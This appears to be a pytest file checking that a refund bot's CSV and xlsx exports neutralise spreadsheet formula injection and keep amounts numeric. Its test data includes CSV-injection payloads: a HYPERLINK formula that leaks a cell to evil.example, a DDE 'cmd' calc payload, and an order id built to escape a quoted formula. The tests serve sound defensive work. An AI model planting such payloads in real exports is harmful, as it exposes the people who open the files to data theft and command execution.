"""Exports cannot carry a formula into the finance team's spreadsheet: a text cell starting with
`=`, `+`, `-`, `@`, tab or CR is prefixed with `'` in CSV and xlsx; amounts stay numbers. The
one formula an export writes, `="<digits>"` for an id in CSV, holds nothing but digits."""

from __future__ import annotations

import asyncio
import csv
import io
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from bot.cli import main
from handlers import export
from tests.support.app import BotFactory, make_settings

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我退款")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]
# Ids a shop system could send: one shaped like a formula, one that tries to close the quotes
# of `="…"`, and a 19-digit one that only the wrapper keeps whole in Excel.
HOSTILE_IDS = ['=1+2"', '1234"&HYPERLINK("http://evil.example")&"', "3698512345678901234"]


async def exported(
    make_bot: BotFactory, sqlite_url: str, tmp_path: Path, fmt: str, *, ids: bool = False
) -> Path:
    bot = await make_bot(make_settings(sqlite_url))
    for reason in HOSTILE:
        await bot.refund(data_reason=reason, data_amount="30.00")
    if ids:
        for order_id in HOSTILE_IDS:
            await bot.refund(data_order_id=order_id, data_amount="30.00")
    config = tmp_path / "refundops.toml"
    config.write_text(f'[database]\nurl = "{sqlite_url}"\n', encoding="utf-8")
    out = tmp_path / f"refunds.{fmt}"
    argv = ["export", "refunds", "--since", "2026-11-23", "--until", "2026-11-23"]
    argv += ["--config", str(config), "--out", str(out), "--format", fmt]
    assert await asyncio.to_thread(main, argv) == 0
    return out


async def test_csv_cells_cannot_be_formulas(
    make_bot: BotFactory, sqlite_url: str, tmp_path: Path
) -> None:
    out = await exported(make_bot, sqlite_url, tmp_path, "csv", ids=True)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [r["原因"] for r in rows[: len(HOSTILE)]] == [f"'{reason}" for reason in HOSTILE]
    assert {r["金额（元）"] for r in rows} == {"30.00"}
    order_ids = [r["订单号"] for r in rows[len(HOSTILE) :]]
    assert order_ids == [
        "'=1+2\"",
        '1234"&HYPERLINK("http://evil.example")&"',
        '="3698512345678901234"',
    ]
    for row in rows:
        for value in row.values():
            assert not value.startswith(export.FORMULA_START[1:]), value
            if value.startswith("="):
                assert export.DIGITS.fullmatch(value[2:-1]), value


async def test_xlsx_cells_cannot_be_formulas_and_amounts_are_numbers(
    make_bot: BotFactory, sqlite_url: str, tmp_path: Path
) -> None:
    out = await exported(make_bot, sqlite_url, tmp_path, "xlsx", ids=True)
    sheet = load_workbook(out).active
    assert sheet is not None
    header, *rows = list(sheet.iter_rows())
    columns = [c.value for c in header]
    assert columns[:3] == ["退款单号", "编号", "订单号"]
    reason_col, amount_col = columns.index("原因"), columns.index("金额（元）")
    order_col = columns.index("订单号")
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
        assert row[reason_col].data_type == "s"
        assert row[amount_col].data_type == "n"
        assert row[amount_col].value == 30
        assert row[amount_col].number_format == "#,##0.00"
        assert row[order_col].data_type == "s"
        assert row[order_col].number_format == "@"
    reasons = [row[reason_col].value for row in rows[: len(HOSTILE)]]
    assert reasons == [f"'{reason}" for reason in HOSTILE]
    order_ids = [row[order_col].value for row in rows[len(HOSTILE) :]]
    assert order_ids == ["'=1+2\"", HOSTILE_IDS[1], "3698512345678901234"]


def test_negative_amounts_stay_numbers(tmp_path: Path) -> None:
    table = export.Export(
        ("handle", "amount", "note"),
        [{"handle": "R1", "amount": Decimal("-5.00"), "note": "-5.00"}],
        -500,
    )
    text = io.StringIO()
    export.write_csv(table, text)
    assert text.getvalue().splitlines() == ["编号,金额（元）,note", "R1,-5.00,'-5.00"]
    path = tmp_path / "negative.xlsx"
    with path.open("wb") as fh:
        export.write_xlsx(table, fh)
    sheet = load_workbook(path).active
    assert sheet is not None
    amount, note = sheet["B2"], sheet["C2"]
    assert (amount.data_type, amount.value) == ("n", -5)
    assert (note.data_type, note.value) == ("s", "'-5.00")
